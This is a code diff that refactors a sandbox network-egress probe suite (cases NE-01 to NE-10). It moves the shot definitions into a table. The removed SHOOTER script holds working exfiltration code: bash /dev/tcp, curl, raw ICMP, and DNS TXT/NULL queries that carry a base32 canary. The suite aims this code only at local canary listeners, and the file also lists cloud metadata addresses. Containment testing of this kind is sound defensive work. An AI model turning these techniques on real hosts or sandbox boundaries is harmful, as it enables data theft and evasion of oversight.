@@ -10,6 +10,11 @@ attack runs then), or when a sink holds the attack's canary.
 Positive control: the same shots, with another canary, from ``ctx.control`` (the bare host);
 every sink the host can reach must record them, or the case is INCONCLUSIVE.
 
+The cases that are nothing but shots (NE-01..05, NE-07) are rows of ``SHOTS_CASES``: which
+canaries to open, which shots to fire at which sink, which sinks to judge; the shots mechanism
+(``SHOOTER``, ``run_shots``, ``judge_shots``, ``ShotsCase.check``) lives in
+``contain.probe.shots``. NE-06, NE-08 and NE-10 have judges of their own and are functions here.
+
 Deliberate deviations from the catalogue, because probe traffic must stay on this host:
 - no shot is aimed at a real outside address (1.1.1.1, 192.0.2.1, 8.8.8.8, real metadata):
   the namespace canary stands in for "somewhere off the sandbox", and a shot that reaches it
@@ -28,339 +33,33 @@ connection is made anywhere). MMDS and virtio-fs halves apply to microVM backend
 
 from __future__ import annotations
 
-import base64
-import dataclasses
 import threading
 import time
-from collections.abc import Callable, Sequence
-from dataclasses import dataclass
 from typing import Any
 
 from contain.probe.canaries import (
     CanaryUnavailable,
-    Sink,
     attack_source,
     decide,
-    dns_canary,
     http_canary,
     netns_canary,
     read_report,
     run_evidence,
-    tcp_canary,
-    udp_canary,
 )
 from contain.probe.case import AttackRun, CaseResult, Category, ProbeCase, ProbeContext, Verdict
+from contain.probe.shots import (
+    SHOOTER,
+    Canary,
+    Shot,
+    ShotRow,
+    ShotsCase,
+    Spelling,
+    run_shots,
+    timed,
+    unavailable,
+)
 
-__all__ = ["CASES", "SHOOTER", "dns_label", "judge_shots"]
-
-# One shot per entry of P["shots"]; each is {"name", "kind", "host", "port", ...}.
-SHOOTER = r"""
-import base64, contextlib, struct, subprocess
-C = P["canary"]
-LABEL = base64.b32encode(C.encode()).decode().rstrip("=").lower()
-
-def fam(h):
-    return socket.AF_INET6 if ":" in h else socket.AF_INET
-
-def dns_query(name, qtype):
-    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
-    return os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + q + struct.pack("!HH", qtype, 1)
-
-def shoot(s):
-    k, h, p = s["kind"], s.get("host"), s.get("port")
-    if k == "tcp":
-        c = socket.socket(fam(h), socket.SOCK_STREAM); c.settimeout(2)
-        c.connect((h, p)); c.sendall(("GET /?c=%s HTTP/1.1\r\nHost: x\r\n\r\n" % C).encode()); c.close(); return "sent"
-    if k == "bash_tcp":
-        r = subprocess.run(["bash", "-c", "echo %s > /dev/tcp/%s/%d" % (C, h, p)], capture_output=True, timeout=5)
-        return r.returncode
-    if k == "curl":
-        url = "http://%s:%d/?c=%s" % (h if ":" not in h else "[" + h + "]", p, C)
-        r = subprocess.run(["curl", "-sS", "--noproxy", "*", "-m", "3", url], capture_output=True, timeout=8)
-        return [r.returncode, r.stderr[-200:]]
-    if k == "udp":
-        c = socket.socket(fam(h), socket.SOCK_DGRAM); c.sendto(C.encode(), (h, p)); c.close(); return "sent"
-    if k == "dns":
-        c = socket.socket(fam(h), socket.SOCK_DGRAM); c.settimeout(1.5)
-        c.sendto(dns_query(LABEL + "." + P["zone"], s["qtype"]), (h, p))
-        with contextlib.suppress(socket.timeout):
-            return c.recv(512)[:4].hex()
-        return "no answer"
-    if k == "dns_tcp":
-        q = dns_query(LABEL + "." + P["zone"], 16)
-        c = socket.socket(fam(h), socket.SOCK_STREAM); c.settimeout(2); c.connect((h, p))
-        c.sendall(struct.pack("!H", len(q)) + q); c.close(); return "sent"
-    if k == "resolve":
-        return [a[4][0] for a in socket.getaddrinfo(LABEL + "." + P["zone"], 80)]
-    if k in ("ping", "raw_icmp"):
-        kind = socket.SOCK_DGRAM if k == "ping" else socket.SOCK_RAW
-        c = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
-        c.sendto(b"\x08\x00\x00\x00\x12\x34\x00\x01" + C.encode(), (h, 0)); c.close(); return "sent"
-    if k in ("sctp", "dccp"):
-        if k.upper() not in open("/proc/net/protocols").read().upper():
-            return "protocol not registered in this kernel; not attempted"
-        proto, kind = (132, socket.SOCK_STREAM) if k == "sctp" else (33, socket.SOCK_DCCP)
-        c = socket.socket(socket.AF_INET, kind, proto); c.settimeout(2); c.connect((h, p)); return "connected"
-    if k == "vsock":
-        c = socket.socket(40, socket.SOCK_STREAM); c.close(); return "created"
-    if k == "route":
-        routes = open("/proc/net/route").read().splitlines()[1:]
-        v6 = open("/proc/net/if_inet6").read() if os.path.exists("/proc/net/if_inet6") else ""
-        default = [r.split()[0] for r in routes if r.split()[1] == "00000000"]
-        links = {l.split()[5] for l in v6.splitlines() if l.split()[5] != "lo"}
-        links = sorted(links | {r.split()[0] for r in routes if r.split()[0] != "lo"})
-        return {"default_route_via": default, "non_loopback_interfaces": links}
-    raise ValueError("unknown shot " + k)
-
-for s in P["shots"]:
-    rec(s["name"], shoot, s)
-done()
-"""
-
-
-def dns_label(canary: str) -> str:
-    """The DNS label a canary travels as (base32, lower case, no padding): fits in 63 bytes."""
-    return base64.b32encode(canary.encode()).decode().rstrip("=").lower()
-
-
-@dataclass(frozen=True)
-class Shot:
-    name: str
-    kind: str
-    host: str | None = None
-    port: int | None = None
-    qtype: int = 1
-    control_reaches: bool = True  # the host control must land this one (False: host-only limits)
-
-    def to_param(self) -> dict[str, Any]:
-        return {"name": self.name, "kind": self.kind, "host": self.host, "port": self.port, "qtype": self.qtype}
-
-
-def _shots_source(shots: Sequence[Shot], canary: str, zone: str) -> str:
-    return attack_source(SHOOTER, canary=canary, zone=zone, shots=[s.to_param() for s in shots])
-
-
-def _settle(sinks: Sequence[Sink]) -> None:
-    for sink in sinks:
-        sink.settle()
-
-
-def judge_shots(
-    case_id: str,
-    *,
-    attack_run: AttackRun,
-    attack_canary: str,
-    sinks: Sequence[Sink],
-    attack_counts: Sequence[int],
-    control_run: AttackRun | None,
-    control_canary: str,
-    control_sinks: Sequence[Sink],
-    control_counts: Sequence[int],
-    contained: str,
-    extra_breaches: Sequence[str] = (),
-    extra_failures: Sequence[str] = (),
-) -> CaseResult:
-    """The verdict for a shots case from sink readings.
-
-    ``attack_counts[i]`` is how many hits ``sinks[i]`` had when the attack phase ended (the sinks
-    start empty); ``control_counts[i]`` is the count of ``control_sinks[i]`` before the control.
-    """
-    breaches = list(extra_breaches)
-    for sink, count in zip(sinks, attack_counts, strict=True):
-        first = sink.hits()[:count]
-        if count:
-            carried = any(
-                attack_canary.encode() in h.data or dns_label(attack_canary).encode() in h.data for h in first
-            )
-            breaches.append(
-                f"{sink.kind} sink {sink.address} got {count} hit(s) during the attack"
-                + (" with the canary" if carried else "")
-            )
-    failures = list(extra_failures)
-    if control_run is not None:
-        for sink, before in zip(control_sinks, control_counts, strict=True):
-            new = sink.hits()[before:]
-            needles = (control_canary.encode(), dns_label(control_canary).encode())
-            landed = any(any(n in h.data for n in needles) for h in new) if sink.kind != "packet" else bool(new)
-            if not landed:
-                failures.append(f"control did not reach {sink.kind} sink {sink.address}")
-    report = read_report(attack_run)
-    missing = [] if report is not None else ["the attack never reported (did not run to completion)"]
-    evidence: dict[str, Any] = {
-        "attack": report,
-        "attack_run": run_evidence(attack_run),
-        "sinks": [s.evidence() for s in sinks],
-    }
-    if control_run is not None:
-        evidence["control"] = read_report(control_run)
-        evidence["control_run"] = run_evidence(control_run, limit=400)
-    control_text = (
-        f"host control reached {len(control_sinks) - len(failures)}/{len(control_sinks)} sinks"
-        if control_run is not None
-        else "no host control"
-    )
-    return decide(
-        case_id,
-        breaches=breaches,
-        control_failures=failures,
-        missing=missing,
-        contained=contained,
-        control=control_text,
-        evidence=evidence,
-    )
-
-
-def _run_shots(
-    ctx: ProbeContext,
-    case_id: str,
-    shots: Sequence[Shot],
-    sinks: Sequence[Sink],
-    *,
-    contained: str,
-    boundary: dict[str, Any] | None = None,
-    control_sinks: Sequence[Sink] | None = None,
-    extra: Callable[[dict[str, Any] | None, dict[str, Any] | None], tuple[list[str], list[str]]] | None = None,
-) -> CaseResult:
-    zone = f"probe-{ctx.run_id}.test"
-    attack_canary, control_canary = ctx.canary("ne"), ctx.canary("ctl")
-    began = time.perf_counter()
-    attack_run = ctx.target.run_python(_shots_source(shots, attack_canary, zone), timeout_s=40, boundary=boundary)
-    _settle(sinks)
-    attack_counts = [s.count() for s in sinks]
-    reachable = list(control_sinks if control_sinks is not None else sinks)
-    control_counts = [s.count() for s in reachable]
-    control_shots = [s for s in shots if s.control_reaches]
-    control_run = ctx.control.run_python(_shots_source(control_shots, control_canary, zone), timeout_s=40)
-    _settle(reachable)
-    extra_breaches, extra_failures = (
-        extra(read_report(attack_run), read_report(control_run)) if extra is not None else ([], [])
-    )
-    result = judge_shots(
-        case_id,
-        attack_run=attack_run,
-        attack_canary=attack_canary,
-        sinks=sinks,
-        attack_counts=attack_counts,
-        control_run=control_run,
-        control_canary=control_canary,
-        control_sinks=reachable,
-        control_counts=control_counts,
-        contained=contained,
-        extra_breaches=extra_breaches,
-        extra_failures=extra_failures,
-    )
-    return _timed(result, began)
-
-
-def _timed(result: CaseResult, began: float) -> CaseResult:
-    return dataclasses.replace(result, duration_s=time.perf_counter() - began)
-
-
-def _unavailable(case_id: str, exc: CanaryUnavailable) -> CaseResult:
-    return CaseResult(case_id, Verdict.INCONCLUSIVE, f"judge could not be set up: {exc}", {"cause": str(exc)})
-
-
-def _ne01(ctx: ProbeContext) -> CaseResult:
-    try:
-        with netns_canary() as n, tcp_canary() as lo:
-            shots = [
-                Shot("python_tcp_netns", "tcp", n.address, n.tcp.port),
-                Shot("python_tcp_host_loopback", "tcp", lo.host, lo.port),
-                Shot("bash_dev_tcp_netns", "bash_tcp", n.address, n.tcp.port),
-                Shot("curl_noproxy_netns", "curl", n.address, n.tcp.port),
-            ]
-            return _run_shots(
-                ctx,
-                "NE-01",
-                shots,
-                [n.tcp, n.packets, lo],
-                contained="no TCP connection and no packet reached the loopback or namespace canary",
-            )
-    except CanaryUnavailable as exc:
-        return _unavailable("NE-01", exc)
-
-
-def _ne02(ctx: ProbeContext) -> CaseResult:
-    try:
-        with netns_canary() as n, tcp_canary("::1") as lo6, tcp_canary() as lo4:
-            shots = [
-                Shot("tcp_ipv6_loopback", "tcp", "::1", lo6.port),
-                Shot("tcp_v4mapped_loopback", "tcp", "::ffff:127.0.0.1", lo4.port),
-                Shot("tcp_v4mapped_netns", "tcp", f"::ffff:{n.address}", n.tcp.port),
-                Shot("curl_ipv6_loopback", "curl", "::1", lo6.port),
-            ]
-            return _run_shots(
-                ctx,
-                "NE-02",
-                shots,
-                [n.tcp, n.packets, lo6, lo4],
-                contained="no IPv6 or v4-mapped connection reached a canary",
-            )
-    except CanaryUnavailable as exc:
-        return _unavailable("NE-02", exc)
-
-
-def _ne03(ctx: ProbeContext) -> CaseResult:
-    try:
-        with netns_canary() as n, udp_canary() as lo:
-            shots = [
-                Shot("udp_netns", "udp", n.address, n.udp.port),
-                Shot("udp_host_loopback", "udp", lo.host, lo.port),
-                Shot("quic_like_udp_netns", "udp", n.address, n.udp.port),
-                Shot("sctp_netns", "sctp", n.address, n.tcp.port, control_reaches=False),
-                Shot("dccp_netns", "dccp", n.address, n.tcp.port, control_reaches=False),
-            ]
-            return _run_shots(
-                ctx,
-                "NE-03",
-                shots,
-                [n.udp, n.packets, lo],
-                contained="no datagram or packet of any protocol reached a canary",
-            )
-    except CanaryUnavailable as exc:
-        return _unavailable("NE-03", exc)
-
-
-def _ne04(ctx: ProbeContext) -> CaseResult:
-    try:
-        with netns_canary() as n:
-            shots = [
-                # ping sockets need net.ipv4.ping_group_range; the host control lands the raw one.
-                Shot("icmp_ping_socket_netns", "ping", n.address, control_reaches=False),
-                Shot("icmp_raw_socket_netns", "raw_icmp", n.address),
-            ]
-            return _run_shots(
-                ctx,
-                "NE-04",
-                shots,
-                [n.packets],
-                contained="no ICMP echo (ping or raw socket) reached the namespace canary",
-            )
-    except CanaryUnavailable as exc:
-        return _unavailable("NE-04", exc)
-
-
-def _ne05(ctx: ProbeContext) -> CaseResult:
-    try:
-        with netns_canary() as n, dns_canary() as lo:
-            shots = [
-                Shot("libc_resolve_canary_name", "resolve", control_reaches=False),
-                Shot("dns_a_host_loopback_ns", "dns", lo.host, lo.port, qtype=1),
-                Shot("dns_txt_netns_ns", "dns", n.address, 53, qtype=16),
-                Shot("dns_null_netns_ns", "dns", n.address, 53, qtype=10),
-                Shot("dns_svcb_netns_ns", "dns", n.address, 53, qtype=64),
-                Shot("dns_over_tcp_netns", "dns_tcp", n.address, n.tcp.port),
-            ]
-            return _run_shots(
-                ctx,
-                "NE-05",
-                shots,
-                [n.dns, n.tcp, n.packets, lo],
-                contained="no DNS query carrying the canary reached a canary name server",
-            )
-    except CanaryUnavailable as exc:
-        return _unavailable("NE-05", exc)
-
+__all__ = ["CASES", "SHOTS_CASES", "route_judge"]
 
 _METADATA_TARGETS = (
     "169.254.169.254",  # AWS v1/v2, GCP, Azure, OpenStack
@@ -413,13 +112,105 @@ def route_judge(attack: dict[str, Any] | None, control: dict[str, Any] | None) -
     return breaches, failures
 
 
+SHOTS_CASES: tuple[ShotsCase, ...] = (
+    ShotsCase(
+        "NE-01",
+        "direct TCP (python, bash /dev/tcp, curl --noproxy) to canaries",
+        "no connection; canary receivers silent",
+        canaries=(Canary.NETNS, Canary.LOOPBACK_TCP),
+        shots=(
+            ShotRow("python_tcp_netns", "tcp", at="netns.tcp"),
+            ShotRow("python_tcp_host_loopback", "tcp", at="lo.tcp"),
+            ShotRow("bash_dev_tcp_netns", "bash_tcp", at="netns.tcp"),
+            ShotRow("curl_noproxy_netns", "curl", at="netns.tcp"),
+        ),
+        sinks=("netns.tcp", "netns.packets", "lo.tcp"),
+        contained="no TCP connection and no packet reached the loopback or namespace canary",
+    ),
+    ShotsCase(
+        "NE-02",
+        "IPv6, v4-mapped and ::1 connections to canaries",
+        "no connection",
+        canaries=(Canary.NETNS, Canary.LOOPBACK6_TCP, Canary.LOOPBACK_TCP),
+        shots=(
+            ShotRow("tcp_ipv6_loopback", "tcp", at="lo6.tcp"),
+            ShotRow("tcp_v4mapped_loopback", "tcp", at="lo.tcp", spelling=Spelling.V4MAPPED),
+            ShotRow("tcp_v4mapped_netns", "tcp", at="netns.tcp", spelling=Spelling.V4MAPPED),
+            ShotRow("curl_ipv6_loopback", "curl", at="lo6.tcp"),
+        ),
+        sinks=("netns.tcp", "netns.packets", "lo6.tcp", "lo.tcp"),
+        contained="no IPv6 or v4-mapped connection reached a canary",
+    ),
+    ShotsCase(
+        "NE-03",
+        "UDP/QUIC-like datagrams, SCTP/DCCP to canaries",
+        "no packet",
+        canaries=(Canary.NETNS, Canary.LOOPBACK_UDP),
+        shots=(
+            ShotRow("udp_netns", "udp", at="netns.udp"),
+            ShotRow("udp_host_loopback", "udp", at="lo.udp"),
+            ShotRow("quic_like_udp_netns", "udp", at="netns.udp"),
+            # Made only where the protocol is already registered, so the control may not land them.
+            ShotRow("sctp_netns", "sctp", at="netns.tcp", control_reaches=False),
+            ShotRow("dccp_netns", "dccp", at="netns.tcp", control_reaches=False),
+        ),
+        sinks=("netns.udp", "netns.packets", "lo.udp"),
+        contained="no datagram or packet of any protocol reached a canary",
+    ),
+    ShotsCase(
+        "NE-04",
+        "ICMP echo with canary payload (ping and raw socket)",
+        "no packet at canary",
+        canaries=(Canary.NETNS,),
+        shots=(
+            # ping sockets need net.ipv4.ping_group_range; the host control lands the raw one.
+            ShotRow("icmp_ping_socket_netns", "ping", at="netns.packets", control_reaches=False),
+            ShotRow("icmp_raw_socket_netns", "raw_icmp", at="netns.packets"),
+        ),
+        sinks=("netns.packets",),
+        contained="no ICMP echo (ping or raw socket) reached the namespace canary",
+    ),
+    ShotsCase(
+        "NE-05",
+        "DNS exfiltration: libc, direct A/TXT/NULL/SVCB, DNS over TCP",
+        "canary name server sees nothing",
+        canaries=(Canary.NETNS, Canary.LOOPBACK_DNS),
+        shots=(
+            ShotRow("libc_resolve_canary_name", "resolve", control_reaches=False),
+            ShotRow("dns_a_host_loopback_ns", "dns", at="lo.dns", qtype=1),
+            ShotRow("dns_txt_netns_ns", "dns", at="netns.dns", qtype=16),
+            ShotRow("dns_null_netns_ns", "dns", at="netns.dns", qtype=10),
+            ShotRow("dns_svcb_netns_ns", "dns", at="netns.dns", qtype=64),
+            ShotRow("dns_over_tcp_netns", "dns_tcp", at="netns.tcp"),
+        ),
+        sinks=("netns.dns", "netns.tcp", "netns.packets", "lo.dns"),
+        contained="no DNS query carrying the canary reached a canary name server",
+    ),
+    ShotsCase(
+        "NE-07",
+        "host loopback, host address, gateway, host.docker.internal",
+        "unreachable",
+        canaries=(Canary.NETNS, Canary.VETH_HOST_TCP, Canary.LOOPBACK_TCP),
+        shots=(
+            ShotRow("host_loopback_listener", "tcp", at="lo.tcp"),
+            ShotRow("host_address_on_veth", "tcp", at="veth.tcp"),
+            ShotRow("routes", "route"),
+            ShotRow("host_docker_internal", "curl", at="lo.tcp", host="host.docker.internal", control_reaches=False),
+        ),
+        sinks=("lo.tcp", "veth.tcp"),
+        contained="host loopback and host addresses unreachable; no route off loopback",
+        extra_judge=route_judge,
+    ),
+)
+
+
 def _ne06(ctx: ProbeContext) -> CaseResult:
     began = time.perf_counter()
     attack_canary = ctx.canary("md")
     try:
         with http_canary() as allowed, netns_canary() as n:
             route_shots = [Shot("routes", "route")]
-            direct = _run_shots(
+            direct = run_shots(
                 ctx,
                 "NE-06",
                 route_shots,
@@ -485,30 +276,9 @@ def _ne06(ctx: ProbeContext) -> CaseResult:
                 control="allowed.test through the proxy received the canary",
                 evidence=evidence,
             )
-            return _timed(result, began)
+            return timed(result, began)
     except CanaryUnavailable as exc:
-        return _unavailable("NE-06", exc)
-
-
-def _ne07(ctx: ProbeContext) -> CaseResult:
-    try:
-        with netns_canary() as n, tcp_canary(n.host_address) as gateway, tcp_canary() as lo:
-            shots = [
-                Shot("host_loopback_listener", "tcp", lo.host, lo.port),
-                Shot("host_address_on_veth", "tcp", gateway.host, gateway.port),
-                Shot("routes", "route"),
-                Shot("host_docker_internal", "curl", "host.docker.internal", lo.port, control_reaches=False),
-            ]
-            return _run_shots(
-                ctx,
-                "NE-07",
-                shots,
-                [lo, gateway],
-                contained="host loopback and host addresses unreachable; no route off loopback",
-                extra=route_judge,
-            )
-    except CanaryUnavailable as exc:
-        return _unavailable("NE-07", exc)
+        return unavailable("NE-06", exc)
 
 
 _SIBLING = r"""
@@ -603,7 +373,7 @@ def _ne08(ctx: ProbeContext) -> CaseResult:
             "sibling_run": run_evidence(sib, limit=400) if sib else None,
         },
     )
-    return _timed(return_value, began)
+    return timed(return_value, began)
 
 
 def _ne10(ctx: ProbeContext) -> CaseResult:
@@ -634,39 +404,27 @@ def _ne10(ctx: ProbeContext) -> CaseResult:
         control="the host created an AF_VSOCK socket (no connection made)",
         evidence={"attack": report, "control": control_report, "attack_run": run_evidence(attack, limit=400)},
     )
-    return _timed(result, began)
+    return timed(result, began)
 
 
 _NEEDS_PROXY = "needs contain's egress proxy decision log and network.hosts override"
 
-CASES: tuple[ProbeCase, ...] = (
-    ProbeCase(
-        "NE-01",
-        Category.NE,
-        "direct TCP (python, bash /dev/tcp, curl --noproxy) to canaries",
-        "no connection; canary receivers silent",
-        _ne01,
-    ),
-    ProbeCase("NE-02", Category.NE, "IPv6, v4-mapped and ::1 connections to canaries", "no connection", _ne02),
-    ProbeCase("NE-03", Category.NE, "UDP/QUIC-like datagrams, SCTP/DCCP to canaries", "no packet", _ne03),
-    ProbeCase(
-        "NE-04", Category.NE, "ICMP echo with canary payload (ping and raw socket)", "no packet at canary", _ne04
-    ),
-    ProbeCase(
-        "NE-05",
-        Category.NE,
-        "DNS exfiltration: libc, direct A/TXT/NULL/SVCB, DNS over TCP",
-        "canary name server sees nothing",
-        _ne05,
-    ),
-    ProbeCase("NE-06", Category.NE, "cloud metadata endpoints, direct (route) and via the proxy", "all fail", _ne06),
-    ProbeCase("NE-07", Category.NE, "host loopback, host address, gateway, host.docker.internal", "unreachable", _ne07),
-    ProbeCase("NE-08", Category.NE, "reach a concurrently running sibling sandbox", "unreachable", _ne08),
-    ProbeCase(
-        "NE-10",
-        Category.NE,
-        "AF_VSOCK to the host (process-backend reading of the microVM case)",
-        "AF_VSOCK refused; no MMDS/virtio-fs on this backend",
-        _ne10,
-    ),
+CASES: tuple[ProbeCase, ...] = tuple(
+    sorted(
+        (
+            *(row.case() for row in SHOTS_CASES),
+            ProbeCase(
+                "NE-06", Category.NE, "cloud metadata endpoints, direct (route) and via the proxy", "all fail", _ne06
+            ),
+            ProbeCase("NE-08", Category.NE, "reach a concurrently running sibling sandbox", "unreachable", _ne08),
+            ProbeCase(
+                "NE-10",
+                Category.NE,
+                "AF_VSOCK to the host (process-backend reading of the microVM case)",
+                "AF_VSOCK refused; no MMDS/virtio-fs on this backend",
+                _ne10,
+            ),
+        ),
+        key=lambda case: case.id,
+    )
 )
